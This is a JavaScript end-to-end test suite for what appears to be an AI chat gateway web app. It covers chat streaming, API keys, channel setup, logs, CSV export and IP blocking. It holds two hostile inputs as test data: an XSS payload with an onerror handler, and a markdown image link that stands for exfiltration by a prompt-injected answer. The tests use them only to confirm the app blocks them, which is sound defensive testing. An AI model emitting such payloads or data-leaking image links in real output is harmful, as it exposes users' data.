// End to end in Debian's Chromium against the real server and the mock upstream: a new user's
// first chat, stop / regenerate / reload-and-resume, an API key used from the openai SDK, then an
// admin adding and testing a channel, reading logs and the dashboard, exporting CSV and blocking
// an address range. Screenshots of each main screen go to test-results/e2e/ (both languages, both
// themes, and a phone-sized chat).
import assert from 'node:assert/strict'
import { readFileSync } from 'node:fs'
import { createServer } from 'node:http'
import { after, before, test } from 'node:test'
import { ADMIN, adminToken, api, openPage, shot, start } from './harness.mjs'

const REPLY_WORDS = Array.from({ length: 60 }, (_, i) => `word${i}`).join(' ')
let h
let token

async function mockProfile(name, options) {
  await fetch(`${h.mock}/_mock/profiles/${name}`, {
    method: 'PUT',
    headers: { 'Content-Type': 'application/json' },
    body: JSON.stringify(Object.fromEntries(Object.entries(options).map(([k, v]) => [k, String(v)]))),
  })
}

before(async () => {
  h = await start()
  token = await adminToken(h.base)
  await mockProfile('e2e', { chunks: 60, interval: 0.05, reasoning: 3, text: REPLY_WORDS })
  const channel = await api(h.base, token, 'POST', '/api/admin/channels', {
    name: 'Mock (seeded)',
    base_url: `${h.mock}/e2e/v1`,
    api_key: 'sk-e2e-upstream-secret',
    models: ['mock-gpt'],
  })
  assert.equal(channel.status, 201)
  const prompt = await api(h.base, token, 'POST', '/api/prompts', { title: 'Summarise', body: 'Summarise this in one sentence:', shared: true })
  assert.equal(prompt.status, 201)
  assert.equal((await api(h.base, token, 'PUT', '/api/admin/settings', { user_agents_enabled: true })).status, 200)
  const agent = await api(h.base, token, 'POST', '/api/admin/agents', {
    name: 'Travel guide',
    avatar: '🧭',
    description: 'Plans trips',
    system_prompt: 'You plan trips.',
    greetings: ['Where do you want to go?'],
    suggested_questions: ['Plan a weekend in Kyoto', 'What to pack for Iceland?'],
    default_model: 'mock-gpt',
    sort_order: -1,
  })
  assert.equal(agent.status, 201)
})

after(async () => {
  await h?.stop()
})

const newPage = (options) => openPage(h.browser, options)

const draftText = (page) => page.locator('[data-test=draft]').innerText()
const lastAnswer = (page) => page.locator('[data-test=assistant-message]').last()

test('a user chats, stops, regenerates, reloads mid-answer and uses an API key', async () => {
  const { page, context, problems } = await newPage()
  await page.goto(`${h.base}/`)
  await page.waitForURL(/\/login/)
  await shot(page, '01-login-en-light')
  await page.click('[data-test=to-register]')
  await page.fill('input[name=username]', 'carol')
  await page.fill('input[name=password]', 'correct horse battery')
  await page.fill('input[name=repeat]', 'correct horse battery')
  await page.click('[data-test=register-submit]')
  await page.waitForSelector('[data-test=new-chat-intro]')

  // A prompt an admin published is offered by "/" in the composer and put in place of it.
  await page.fill('[data-test=composer]', '/sum')
  await page.waitForSelector('[data-test=prompt-picker] >> text=Summarise')
  await shot(page, '01b-prompt-picker')
  await page.press('[data-test=composer]', 'Enter')
  assert.equal(await page.inputValue('[data-test=composer]'), 'Summarise this in one sentence:')
  await page.fill('[data-test=composer]', '')

  // Her own agent: made under Account → My agents, offered when she starts a chat.
  await page.goto(`${h.base}/account/agents`)
  await page.click('[data-test=add-my-agent]')
  await page.fill('[data-test=my-agent-form] input[name=name]', 'Haiku poet')
  await page.fill('[data-test=my-agent-form] textarea[name=system_prompt]', 'Answer in haiku.')
  await page.click('[data-test=save-my-agent]')
  await page.waitForSelector('[data-test=my-agents] >> text=Haiku poet')
  await shot(page, '01c-my-agents')
  await page.goto(`${h.base}/`)
  await page.waitForSelector('[data-test=agent-card] >> text=Haiku poet')

  // New chat with an agent: its greeting and starters appear; a starter asks the question.
  await page.locator('[data-test=agent-card]', { hasText: 'Travel guide' }).click()
  await page.waitForSelector('[data-test=greeting] >> text=Where do you want to go?')
  await shot(page, '02-new-chat-agent')
  await page.locator('[data-test=starter]', { hasText: 'Plan a weekend in Kyoto' }).click()
  await page.waitForURL(/\/c\/\d+/)
  await page.waitForSelector('[data-test=draft] [data-test=reasoning]')
  await page.waitForFunction(() => document.querySelector('[data-test=draft]')?.textContent?.includes('word5'))
  await shot(page, '03-streaming-reasoning')

  // Stop: the partial answer stays, marked stopped.
  await page.click('[data-test=stop]')
  await page.waitForSelector('[data-test=stopped-note]')
  const stopped = await lastAnswer(page).innerText()
  assert.match(stopped, /word1/)
  assert.doesNotMatch(stopped, /word59/)

  // Regenerate: a full answer replaces it.
  await mockProfile('e2e', { chunks: 60, interval: 0.01, reasoning: 2, text: REPLY_WORDS })
  await lastAnswer(page).hover()
  await page.click('[data-test=regenerate]')
  await page.waitForFunction(() => !document.querySelector('[data-test=draft]') && document.querySelector('[data-test=assistant-message]:last-child')?.textContent?.includes('word59'))
  assert.equal(await page.locator('[data-test=assistant-message]').count(), 1)
  await shot(page, '04-answer-en-light')

  // Reload mid-answer: the page re-attaches and shows the whole answer once.
  await mockProfile('e2e', { chunks: 60, interval: 0.06, text: REPLY_WORDS })
  await page.fill('[data-test=composer]', 'And in autumn?')
  await page.keyboard.press('Enter')
  await page.waitForFunction(() => document.querySelector('[data-test=draft]')?.textContent?.includes('word8'))
  await page.reload()
  await page.waitForSelector('[data-test=draft]')
  await page.waitForFunction(() => !document.querySelector('[data-test=draft]'), null, { timeout: 20_000 })
  const resumed = await lastAnswer(page).innerText()
  assert.equal((resumed.match(/word0 /g) ?? []).length, 1, 'nothing shown twice')
  assert.match(resumed, /word59/)
  assert.equal(await page.locator('[data-test=user-message]').count(), 2)
  await page.fill('[data-test=search]', 'autumn')

  // The sidebar lists it (with its generated title), and the search finds it by content.
  await page.waitForFunction(() => document.querySelectorAll('[data-test=conversation-item]').length === 1)

  // A conversation exported as JSON (here, from another installation) is imported with a button.
  const exported = {
    format: 'ai-chat-gateway.conversation', version: 1, title: 'Imported trip', system_prompt: '',
    messages: [
      { role: 'user', content: 'Where to in autumn?', status: 'complete', prompt_tokens: 0, completion_tokens: 0 },
      { role: 'assistant', content: 'Kyoto.', status: 'complete', prompt_tokens: 0, completion_tokens: 0 },
    ],
  }
  await page.setInputFiles('[data-test=import-conversation-file]', { name: 'trip.json', mimeType: 'application/json', buffer: Buffer.from(JSON.stringify(exported)) })
  await page.waitForSelector('[data-test=assistant-message] >> text=Kyoto.')
  await page.fill('[data-test=search]', 'autumn')
  await page.waitForFunction(() => document.querySelectorAll('[data-test=conversation-item]').length === 2)
  await page.fill('[data-test=search]', '')

  // Formulas are typeset (KaTeX, loaded on first use); a script in an answer never runs.
  await mockProfile('e2e', { chunks: 7, text: 'Energy: $E = mc^2$ <img src=x onerror="window.__pwned=1">' })
  await page.fill('[data-test=composer]', 'Physics?')
  await page.keyboard.press('Enter')
  await page.waitForSelector('[data-test=assistant-message] .katex')
  assert.equal(await page.evaluate(() => window.__pwned), undefined)
  await mockProfile('e2e', { chunks: 60, interval: 0.01, text: REPLY_WORDS })
  await page.fill('[data-test=search]', '')

  // Chinese and dark: the same chat.
  await page.selectOption('[data-test=locale]', 'zh-CN')
  await page.click('[data-test=theme-toggle]')
  await page.waitForSelector('text=新建对话')
  await shot(page, '05-chat-zh-dark')
  await page.click('[data-test=theme-toggle]')
  await page.selectOption('[data-test=locale]', 'en')

  // An API key, shown once, used from the official openai SDK.
  await page.goto(`${h.base}/account/keys`)
  await page.click('[data-test=create-key]')
  await page.fill('[data-test=key-name] input', 'laptop')
  await page.click('[data-test=key-submit]')
  const key = (await page.locator('[data-test=new-key]').innerText()).trim()
  assert.match(key, /^sk-/)
  assert.match(await page.locator('[data-test=python-snippet]').innerText(), new RegExp(`base_url="${h.base}/v1"`))
  await shot(page, '06-api-key-created')
  await page.click('[data-test=key-done]')
  const answer = h.python(
    'import sys\nfrom openai import OpenAI\nclient = OpenAI(base_url=sys.argv[1], api_key=sys.argv[2], max_retries=0)\n' +
      'r = client.chat.completions.create(model="mock-gpt", messages=[{"role": "user", "content": "hi"}])\nprint(r.choices[0].message.content)',
    [`${h.base}/v1`, key],
  )
  assert.match(answer, /word0/)
  assert.deepEqual(problems, [])
  await context.close()
})

test('an admin adds and tests a channel, reads logs and the dashboard, exports CSV and blocks a range', async () => {
  const { page, context, problems } = await newPage()
  await page.goto(`${h.base}/admin/login`)
  await page.fill('input[name=username]', ADMIN.username)
  await page.fill('input[name=password]', ADMIN.password)
  await page.click('[data-test=login-submit]')
  await page.waitForSelector('[data-test=dashboard]')

  // Add a channel and test it.
  await page.click('[data-test=admin-nav] >> text=Channels')
  await page.click('[data-test=add-channel]')
  await page.fill('[data-test=channel-form] input[name=name]', 'Second mock')
  await page.fill('[data-test=channel-form] input[name=base_url]', `${h.mock}/second/v1`)
  await page.fill('[data-test=channel-form] input[name=api_key]', 'sk-e2e-second-upstream')
  await page.fill('[data-test=channel-form] input[name=models]', 'mock-gpt, mock-reasoner')
  await page.click('[data-test=responses-api] button[role=switch]')
  assert.equal(await page.getAttribute('[data-test=responses-api] button[role=switch]', 'aria-checked'), 'true')
  await page.click('[data-test=save-channel]')
  const row = page.locator('tr', { hasText: 'Second mock' })
  await row.waitFor()
  assert.doesNotMatch(await page.content(), /sk-e2e-second-upstream/, 'the key is never shown back')
  await row.locator('[data-test=test-channel]').click()
  await page.waitForSelector('[data-test=test-result] >> text=/Answered in \\d+ ms/')
  await shot(page, '07-channels-tested')
  await page.keyboard.press('Escape')
  // A native Anthropic channel (the mock speaks the Messages API too), tested the same way.
  await page.click('[data-test=add-channel]')
  await page.selectOption('[data-test=channel-type] select', 'anthropic')
  await page.fill('[data-test=channel-form] input[name=name]', 'Claude (mock)')
  await page.fill('[data-test=channel-form] input[name=base_url]', `${h.mock}/v1`)
  await page.fill('[data-test=channel-form] input[name=api_key]', 'sk-ant-e2e')
  await page.fill('[data-test=channel-form] input[name=models]', 'mock-tools')
  await page.click('[data-test=save-channel]')
  const claude = page.locator('tr', { hasText: 'Claude (mock)' })
  await claude.waitFor()
  assert.equal(await claude.locator('[data-test=channel-type-badge]').innerText(), 'Anthropic')
  await claude.locator('[data-test=test-channel]').click()
  await page.waitForSelector('[data-test=test-result] >> text=/Answered in \\d+ ms/')
  await shot(page, '07b-anthropic-channel-tested')
  await page.keyboard.press('Escape')

  // Price the model through the Prices page; a call made now has a cost.
  await page.click('[data-test=admin-nav] >> text=Prices')
  await page.waitForSelector('[data-test=prices]')
  await page.click('[data-test=add-price]')
  await page.fill('[data-test=price-form] input[name=model]', 'mock-gpt')
  await page.fill('[data-test=price-form] input[name=input]', '1000')
  await page.fill('[data-test=price-form] input[name=output]', '2000')
  await page.click('[data-test=save-price]')
  await page.waitForSelector('td >> text=2000')
  await shot(page, '07c-prices')
  const pricedKey = (await api(h.base, token, 'POST', '/api/keys', { name: 'priced' })).body.key
  const logged = async () => (await api(h.base, token, 'GET', '/api/admin/logs/totals')).body.requests
  const before = await logged()
  const priced = await fetch(`${h.base}/v1/chat/completions`, {
    method: 'POST',
    headers: { Authorization: `Bearer ${pricedKey}`, 'Content-Type': 'application/json' },
    body: JSON.stringify({ model: 'mock-gpt', messages: [{ role: 'user', content: 'price me' }] }),
  })
  assert.equal(priced.status, 200)
  // Its log row is written in the background: wait for it, so the log pages below are complete.
  for (let tries = 0; tries < 40 && (await logged()) === before; tries++) await new Promise((r) => setTimeout(r, 100))

  // The calls made so far are in the logs, with totals; the CSV holds the same rows.
  await page.click('[data-test=admin-nav] >> text=Call logs')
  await page.waitForSelector('[data-test=log-totals]')
  const totals = await page.locator('[data-test=log-totals]').innerText()
  const calls = Number(/^([\d,]+) calls/.exec(totals)?.[1].replace(/,/g, ''))
  assert.ok(calls >= 4, totals)
  await page.locator('tbody tr').first().click()
  await page.waitForSelector('[data-test=log-detail]')
  await shot(page, '08-logs-detail')
  await page.keyboard.press('Escape')
  await page.locator('[aria-label=close]').click().catch(() => undefined)
  const [download] = await Promise.all([page.waitForEvent('download'), page.click('[data-test=export-csv]')])
  const csv = readFileSync(await download.path(), 'utf8')
  assert.ok(csv.startsWith('\ufeff'), 'UTF-8 BOM for Excel')
  const lines = csv.trim().split(/\r?\n/)
  assert.equal(lines.length - 2, calls, 'header + one line per call + totals')
  assert.match(lines.at(-1), /^TOTAL,/)

  // The dashboard counts them (and what the priced call cost), in both languages and themes.
  await page.click('[data-test=admin-nav] >> text=Dashboard')
  await page.waitForSelector('[data-test=dashboard] canvas')
  let spend = ''
  for (let tries = 0; tries < 20; tries++) {
    spend = await page.locator('[data-test=spend-card]').first().innerText()
    if (!/\$0\.00/.test(spend)) break
    await page.waitForTimeout(250)
    await page.reload()
    await page.waitForSelector('[data-test=spend-card]')
  }
  assert.doesNotMatch(spend, /\$0\.00/, 'the priced call shows as spend today')
  assert.match(spend, /\$\d/)
  await shot(page, '09-dashboard-en-light')
  await page.selectOption('[data-test=locale]', 'zh-CN')
  await page.click('[data-test=theme-toggle]')
  await page.waitForSelector('text=仪表盘')
  await shot(page, '10-dashboard-zh-dark')
  await page.click('[data-test=theme-toggle]')
  await page.selectOption('[data-test=locale]', 'en')

  // "My usage" shows the admin's own spend this month.
  await page.goto(`${h.base}/account/usage`)
  await page.waitForSelector('[data-test=spending]')
  assert.doesNotMatch(await page.locator('[data-test=spent]').innerText(), /\$0\.00/)
  await shot(page, '10b-my-usage-spend')
  await page.goto(`${h.base}/admin`)
  await page.waitForSelector('[data-test=dashboard]')

  // Block a range; a client from it is refused everywhere.
  await page.click('[data-test=admin-nav] >> text=IP blacklist')
  await page.click('[data-test=add-rule]')
  await page.fill('input[name=cidr]', '198.51.100.1/24')
  await page.click('[data-test=save-rule]')
  await page.waitForSelector('text=198.51.100.0/24')
  await page.fill('input[name=cidr]', '198.51.100.0/24')
  await page.fill('input[name=reason]', 'abuse')
  await page.click('[data-test=save-rule]')
  await page.waitForSelector('td >> text=198.51.100.0/24')
  await shot(page, '11-ip-blacklist')
  const blocked = await fetch(`${h.base}/v1/models`, { headers: { 'X-Forwarded-For': '198.51.100.7' } })
  assert.equal(blocked.status, 403)
  const allowed = await fetch(`${h.base}/healthz`, { headers: { 'X-Forwarded-For': '203.0.113.9' } })
  assert.equal(allowed.status, 200)

  // Sign a user out everywhere, revoking their API keys too: their key stops at once.
  const someone = await api(h.base, token, 'POST', '/api/admin/users', { username: 'leaving', password: 'correct horse battery' })
  assert.equal(someone.status, 201)
  const theirs = await fetch(`${h.base}/api/auth/login`, {
    method: 'POST',
    headers: { 'Content-Type': 'application/json' },
    body: JSON.stringify({ username: 'leaving', password: 'correct horse battery' }),
  })
  const key = await api(h.base, (await theirs.json()).access_token, 'POST', '/api/keys', { name: 'k' })
  await page.click('[data-test=admin-nav] >> text=Users')
  const leavingRow = page.locator('tr', { hasText: 'leaving' })
  await leavingRow.locator('[data-test=sign-out-everywhere]').click()
  await page.check('[data-test=confirm-option] input')
  await shot(page, '12-sign-out-everywhere')
  await page.click('[data-test=confirm]')
  await page.waitForSelector('text=/API keys revoked: 1/')
  const revoked = await fetch(`${h.base}/v1/models`, { headers: { Authorization: `Bearer ${key.body.key}` } })
  assert.equal(revoked.status, 401)

  // Settings are generated from the registry and show the server's validation message.
  await page.click('[data-test=admin-nav] >> text=Settings')
  const field = page.locator('input[name=llm_concurrency]')
  await field.fill('0')
  await page.locator('form', { has: field }).locator('button[type=submit]').click()
  await page.waitForSelector('[role=alert] >> text=/greater than or equal to 1/')
  await shot(page, '12-settings-validation')
  assert.deepEqual(problems, [])
  await context.close()
})

test('the chat works on a phone-sized screen', async () => {
  const { page, context, problems } = await newPage({ viewport: { width: 375, height: 740 }, locale: 'zh-CN', isMobile: true })
  await page.goto(`${h.base}/login`)
  await page.fill('input[name=username]', 'carol')
  await page.fill('input[name=password]', 'correct horse battery')
  await page.click('[data-test=login-submit]')
  await page.waitForSelector('[data-test=composer]')
  const sidebarRight = () => page.locator('[data-test=sidebar]').evaluate((el) => el.getBoundingClientRect().right)
  await page.waitForTimeout(300)
  assert.ok((await sidebarRight()) <= 0, 'the sidebar starts collapsed')
  await page.click('[data-test=toggle-sidebar]')
  await page.waitForSelector('[data-test=conversation-item]')
  await shot(page, '13-phone-sidebar-zh')
  await page.locator('[data-test=conversation-item]').first().click()
  await page.waitForSelector('[data-test=assistant-message]')
  await page.waitForTimeout(300)
  assert.ok((await sidebarRight()) <= 0, 'it closes once a chat is picked')
  const overflow = await page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth)
  assert.ok(overflow <= 1, `no sideways scrolling (${overflow}px)`)
  await shot(page, '14-phone-chat-zh')
  assert.deepEqual(problems, [])
  await context.close()
})

test("an answer's images are not fetched, and the API docs load under the page policy", async () => {
  // A collector, standing for a site a prompt-injected answer would send data to.
  const hits = []
  const collector = createServer((request, response) => {
    hits.push(request.url)
    response.end('')
  })
  await new Promise((done) => collector.listen(0, '127.0.0.1', done))
  const leak = `http://127.0.0.1:${collector.address().port}/collect?secret=4711`
  const { page, context, problems } = await newPage()
  try {
    // Both channels serving mock-gpt (the seeded one and the one the admin test added) answer alike.
    const answer = { chunks: 6, interval: 0.01, text: `Here it is: ![the chart](${leak}) done.` }
    await mockProfile('e2e', answer)
    await mockProfile('second', answer)
    const signUp = await fetch(`${h.base}/api/auth/register`, {
      method: 'POST',
      headers: { 'Content-Type': 'application/json' },
      body: JSON.stringify({ username: 'imagetest', password: 'correct horse battery' }),
    })
    assert.equal(signUp.status, 201)
    await page.goto(`${h.base}/login`)
    await page.fill('input[name=username]', 'imagetest')
    await page.fill('input[name=password]', 'correct horse battery')
    await page.click('[data-test=login-submit]')
    await page.waitForSelector('[data-test=composer]')
    await page.fill('[data-test=composer]', 'Show me the chart')
    await page.keyboard.press('Enter')
    await page.waitForSelector('[data-test=assistant-message] a[data-image]')
    const reply = lastAnswer(page)
    assert.equal(await reply.locator('img').count(), 0)
    assert.equal(await reply.locator('a[data-image]').getAttribute('href'), leak)
    await shot(page, '13-remote-image-as-link')
    await page.waitForTimeout(300)
    assert.deepEqual(hits, [], 'the browser fetched nothing from the answer')

    await page.goto(`${h.base}/docs`)
    await page.waitForSelector('.swagger-ui .info .title')
    await page.waitForSelector('.opblock-summary-path[data-path="/v1/chat/completions"]')
    await shot(page, '14-api-docs')
    assert.deepEqual(problems, [])
  } finally {
    await context.close()
    collector.close()
    await mockProfile('e2e', { chunks: 60, interval: 0.01, reasoning: 2, text: REPLY_WORDS })
    await mockProfile('second', {})
  }
})
